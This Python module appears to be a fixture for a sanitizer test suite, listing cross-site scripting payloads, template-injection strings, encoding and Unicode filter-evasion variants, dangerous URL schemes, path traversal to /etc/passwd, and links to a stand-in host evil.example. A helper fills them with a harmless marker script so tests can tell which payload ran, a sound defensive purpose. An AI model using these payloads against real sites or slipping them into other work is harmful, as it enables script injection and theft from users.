"""Ways to have a page run a script, load something from elsewhere, or take on markup.

`RUN` stands for a script that says so, `EVIL` for an address on another host, and `MARK` for an
attribute that only markup from the content can have.
"""

from payload_elements import ELEMENTS

# Ways out of the value of an attribute, or of a text that stands in a script.
BREAKOUTS = '''
" onmouseover=RUN x="
' onmouseover=RUN x='
" MARK onfocus=RUN tabindex=0 autofocus x="
' MARK autofocus onfocus=RUN x='
` onmouseover=RUN `
"><script>RUN</script>
'><script>RUN</script>
"/><img src=x onerror=RUN><"
'/><svg onload=RUN>
x onmouseover=RUN MARK
x/onmouseover=RUN/MARK
" style="background:url(EVIL/a.png)" x="
" href="javascript:RUN" x="
" src=EVIL/a.png "
"\tonclick=RUN\t"
"&gt;<script>RUN</script>
&quot; onmouseover=RUN x=&quot;
&#34; onmouseover=RUN MARK x=&#34;
&#x27; onmouseover=RUN MARK x=&#x27;
&apos; onmouseover=RUN x=&apos;
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;img src=x onerror=RUN&#x3e;
&#0000060script&#0000062RUN&#0000060/script&#0000062
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
\\"><script>RUN</script>
\\'-RUN-\\'
';RUN;//
";RUN;//
'-RUN-'
"-RUN-"
\\x3cscript\\x3eRUN\\x3c/script\\x3e
\\u003cscript\\u003eRUN\\u003c/script\\u003e
${RUN}
`${RUN}`
*/RUN/*
}RUN{
}};RUN;({{
</script ><svg onload=RUN>
{"__proto__":{"pwned":1}}
","x":"</script><script>RUN</script>
{{{markup}}}
{{#title}}<script>RUN</script>{{/title}}
{{> ../../kb.yaml}}
{{=<% %>=}}<%& title %>
{{&title}}{{^title}}<img src=x onerror=RUN>{{/title}}
{{constructor.constructor('RUN')()}}
#{RUN}
<%= RUN %>
[[${RUN}]]
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253ERUN%253C/script%253E
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
﹤img src=x onerror=RUN﹥
‹script›RUN‹/script›
<\u200bscript>RUN</script>
<script\u00a0>RUN</script>
<img\u2028src=x\u2028onerror=RUN>
\u202e<script>RUN</script>\u202c
\u2066" onmouseover=RUN x="\u2069
ſcript:RUN
<ſcript>RUN</ſcript>
<img src=x onerror=ＲＵＮ>
constructor __proto__ toString <img src=x onerror=RUN>
window.name location=javascript:RUN
BEGIN:VEVENT X-TORTURE:1 <script>RUN</script>
=HYPERLINK("EVIL","x") <script>RUN</script>
]]></summary></entry><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
'''

# Addresses that a link, a picture or a reference could have.
ADDRESSES = '''
javascript:RUN
JaVaScRiPt:RUN
javascript://host/%0aRUN
javascript:%0aRUN
javascript:/*x*/RUN
javascript:void(RUN)
javascript&colon;RUN
javascript&#58;RUN
javascript&#x3A;RUN
java&#115;cript:RUN
java&Tab;script:RUN
java&NewLine;script:RUN
java&#9;script:RUN
java&#10;script:RUN
&#1;javascript:RUN
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN
\\javascript:RUN
java\\script:RUN
\u0001javascript:RUN
\u00a0javascript:RUN
\u200bjavascript:RUN
\ufeffjavascript:RUN
jav\u0000ascript:RUN
java\u00adscript:RUN
%6Aavascript:RUN
javascript%3ARUN
feed:javascript:RUN
view-source:javascript:RUN
jar:javascript:RUN!/
livescript:RUN
mocha:RUN
vbscript:RUN
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==
DATA:text/html,<img/src=x/onerror=RUN>
data:image/svg+xml,<svg/onload=RUN>
data:,x
blob:EVIL/x
filesystem:EVIL/x
file:///etc/passwd
about:blank
ftp://evil.example/a
//evil.example/a
///evil.example/a
/\\evil.example/a
\\\\evil.example\\a
https:evil.example/a
http:\\\\evil.example/a
http://evil.example:80@127.0.0.1/a
https://127.0.0.1@evil.example/a
?x=<script>RUN</script>
#"><script>RUN</script>
x" onmouseover="RUN
x' onmouseover='RUN
x"MARK
../../../../etc/passwd
mailto:a@b.example?body=<script>RUN</script>
mailto:"onmouseover=RUN"@b.example
tel:1" onmouseover=RUN x="
https://evil.example/"onmouseover="RUN
https://evil.example/<script>RUN</script>
https://evil.example/{{{markup}}}
ws://evil.example/
intent:RUN#Intent;end
'''

EVIL = "https://evil.example"
ATTRIBUTE = "data-torture=1"


def filled(text, number):
    """A payload with a script of its own, so that a page says which one ran."""
    script = f"window.pwned={number}"
    text = text.replace("parent.RUN", f"parent.pwned={number}").replace("ＲＵＮ", script)
    return text.replace("RUN", script).replace("EVIL", EVIL).replace("MARK", ATTRIBUTE)


def lines(block):
    return [line for line in block.split("\n") if line.strip()]


TEXTS = [filled(line, number) for number, line in enumerate(lines(ELEMENTS) + lines(BREAKOUTS), 1)]
LINKS = [filled(line, number) for number, line in enumerate(lines(ADDRESSES), 1001)]
ALL = TEXTS + LINKS
# Markdown around an address, each another way to make a link or a picture of it.
FORMS = [
    "[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}\n", "{}",
    "[[{}]]", "[[evening|{}]]", '[x](a "{}")', "[![x]({})]({})", "[{}](a)", "![{}](a)",
]
